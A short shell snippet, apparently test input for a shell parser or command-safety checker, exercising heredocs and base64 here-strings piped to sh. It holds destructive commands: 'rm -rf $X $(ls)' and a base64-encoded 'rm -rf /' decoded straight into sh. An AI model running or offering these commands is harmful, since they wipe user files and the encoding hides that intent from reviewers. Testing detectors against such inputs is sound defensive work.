cat <<EOF | sh
rm -rf $X $(ls)
EOF
bash <<-'E'
	echo a
	E
base64 -d <<< cm0gLXJmIC8= | sh
